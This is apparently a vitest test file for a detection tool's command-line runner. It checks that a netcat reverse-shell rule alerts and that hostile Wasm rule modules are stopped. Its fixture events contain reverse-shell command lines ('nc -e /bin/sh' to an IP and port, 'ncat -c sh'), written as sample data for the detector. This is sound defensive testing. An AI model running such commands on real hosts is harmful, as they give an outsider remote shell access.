// Wasm user rules through the CLI, loaded like any rule (a file or a folder, beside EQL rules),
// with hostile modules among them: an infinite loop, a memory bomb, a trap and a looping
// `_initialize`. Each is stopped and named on stderr, the run goes on, the well-behaved user rule
// and the EQL rules keep alerting, and the output is the same for 0 and 2 workers.
import { spawnSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parseValidAlerts } from './helpers/alert-schema.js';
import { compileRules } from './helpers/asc.js';
import { KESTREL_BIN, distModule } from './helpers/dist.js';

const dir = mkdtempSync(join(tmpdir(), 'kestrel-wasm-cli-'));
const rulesDir = join(dir, 'rules');
const capture = join(dir, 'events.bin');
const HOSTILE = ['infinite-loop', 'alloc-bomb', 'traps', 'init-loop'];
afterAll(() => rmSync(dir, { recursive: true, force: true }));

function kestrel(...args: string[]) {
  const r = spawnSync(process.execPath, [KESTREL_BIN, ...args], { encoding: 'utf8', env: { ...process.env, KESTREL_LOG_LEVEL: 'warn' } });
  return { code: r.status, out: r.stdout, err: r.stderr };
}

const exec = (i: number, name: string, args: string[]) =>
  JSON.stringify({ '@timestamp': `2024-01-01T00:00:0${i}Z`, event: { category: ['process'], type: ['start'], action: 'exec' }, host: { os: { type: 'linux' } }, process: { pid: 10 + i, entity_id: `e${i}`, name, args } });

beforeAll(() => {
  distModule('main/cli.js');
  const wasm = compileRules(['rules/examples/netcat-exec.ts', ...HOSTILE.map((n) => `test/fixtures/wasm-rules/${n}.ts`)]);
  mkdirSync(rulesDir);
  for (const [name, bytes] of Object.entries(wasm)) writeFileSync(join(rulesDir, `${name}.wasm`), bytes);
  const events = join(dir, 'events.ndjson');
  writeFileSync(events, [exec(1, 'nc', ['nc', '-e', '/bin/sh', '10.0.0.1', '4444']), exec(2, 'ls', ['ls']), exec(3, 'ncat', ['ncat', '-c', 'sh'])].join('\n') + '\n');
  expect(kestrel('convert', events, capture).code).toBe(0);
}, 120_000);

describe('Wasm user rules in replay', () => {
  it('a module named directly runs and alerts, with its messages', () => {
    const r = kestrel('replay', capture, '--rules', join(rulesDir, 'netcat-exec.wasm'), '--workers', '0');
    expect(r.code, r.err).toBe(0);
    const alerts = parseValidAlerts(r.out);
    expect(alerts.map((a) => a.kestrel.messages)).toEqual([['nc -e: possible reverse shell'], ['ncat -c: possible reverse shell']]);
    expect(alerts[0].rule).toMatchObject({ id: 'wasm:netcat-exec', name: 'netcat-exec' });
    expect(alerts[0].kestrel.events[0].process.name).toBe('nc');
  });

  it('hostile modules in a folder are stopped and named; the good rules keep alerting; same for 0 and 2 workers', () => {
    const outs: string[] = [];
    for (const workers of ['0', '2']) {
      const r = kestrel('replay', capture, '--rules', rulesDir, 'rules', '--workers', workers);
      // A module that cannot start is a rule that does not run: exit 1, as for a broken rule.
      expect(r.code, r.err).toBe(1);
      expect(r.err).toContain('user rule init-loop: fuel in _initialize');
      expect(r.err).toContain('user rule infinite-loop: fuel');
      expect(r.err).toContain('user rule alloc-bomb: memory');
      expect(r.err).toContain('user rule traps: trap');
      expect(r.err).toMatch(/user rule (infinite-loop|alloc-bomb|traps) disabled after repeated faults/);
      const alerts = parseValidAlerts(r.out);
      expect(alerts.filter((a) => a.rule.id === 'wasm:netcat-exec')).toHaveLength(2);
      outs.push(r.out);
    }
    expect(outs[1]).toBe(outs[0]);
  }, 60_000);

  it('check counts a module in a folder once, and a bad module as failed', () => {
    writeFileSync(join(dir, 'junk.wasm'), 'not wasm');
    const r = kestrel('check', join(rulesDir, 'netcat-exec.wasm'), join(dir, 'junk.wasm'));
    expect(r.code).toBe(1);
    expect(r.out).toMatch(/1 rules ok, 1 failed/);
  });
});
